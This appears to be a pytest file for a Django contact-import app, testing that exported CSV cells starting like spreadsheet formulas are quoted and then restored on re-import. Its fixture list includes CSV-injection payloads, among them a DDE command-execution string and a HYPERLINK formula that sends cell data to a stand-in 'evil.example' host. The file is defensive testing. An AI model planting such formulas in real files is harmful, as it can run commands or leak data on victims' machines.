"""Tables that we hand out: no cell is taken for a formula, and what is brought back is what was there."""

import csv
import io

import pytest

from postroom.access.viewer import SYSTEM
from postroom.contacts.models import Contact
from postroom.intake import selectors as intake
from postroom.intake import services
from postroom.intake.files.reading import guarded, unguarded
from postroom.intake.models import RefusedRow
from tests import makers
from tests.runs import office
from tests.web.desks import desk

FORMULAS = [
    "=1+1", "+48 22 555", "-5", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201",
    "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example/"&A1,"x")', "=IMPORTXML(A1)", "'=1", "''+1", "'=cmd|x",
]  # fmt: skip
WORDS = ["plain", "plain -1", "'quoted'", "'", "''", "", "O'Brien", "1=1", "\u00a0=1", 'say "no"', "a;b", "l1\nl2"]
STARTS = tuple("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("text", FORMULAS)
def test_what_begins_like_a_formula_begins_with_a_quote(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", [*FORMULAS, *WORDS])
def test_the_guard_comes_off_and_nothing_else(text):
    assert not guarded(text).startswith(STARTS)
    assert unguarded(guarded(text)) == text


@pytest.mark.django_db
def test_rows_that_are_refused_go_out_and_come_back_as_they_were():
    """Brought in without account numbers, written out, given numbers, brought in again: the names are the same."""
    unit = makers.unit()
    names = [text for text in (*FORMULAS, *WORDS) if text.strip() == text and text and "\0" not in text]
    first = _brought_in(unit, [["", name] for name in names])
    told = "".join(intake.refused_file(viewer=SYSTEM, import_id=first.pk))
    rows = list(csv.reader(io.StringIO(told.removeprefix("\ufeff"), newline=""), delimiter=first.reading["delimiter"]))

    assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []

    _brought_in(unit, [[f"N-{place:02}", row[2]] for place, row in enumerate(rows[1:])])

    kept = list(Contact.objects.order_by("account_number").values_list("name", flat=True))
    assert kept == [_as_a_line(name) for name in names]


def _as_a_line(name: str) -> str:
    """Names are one line."""
    return " ".join(unguarded(name).split())


def _brought_in(unit, rows):
    written = io.StringIO()
    csv.writer(written, delimiter=";").writerows([["account_number", "name"], *rows])
    file = io.BytesIO(written.getvalue().encode())
    begun = services.begin(viewer=SYSTEM, unit=unit, subject="contact", file=file, file_name="a.csv")
    services.set_mapping(
        viewer=SYSTEM, import_id=begun.pk, mapping={"account_number": "account_number", "name": "name"}
    )
    services.run_import(import_id=begun.pk, at=makers.NOON)
    begun.refresh_from_db()
    return begun


@pytest.mark.django_db
def test_no_cell_of_a_report_is_a_formula():
    texts = [text for text in FORMULAS if "\0" not in text]
    for place, text in enumerate(texts):
        makers.contact(f"{text[:20]}{place}", name=text, email=None)
    run = office.in_review()

    answer = b"".join(desk().get(f"/runs/{run.pk}/recipients.csv").streaming_content).decode("utf-8-sig")

    rows = list(csv.reader(io.StringIO(answer, newline="")))
    assert len(rows) == len(texts) + 1
    assert [cell for row in rows for cell in row if cell.startswith(STARTS)] == []
    assert RefusedRow.objects.count() == 0
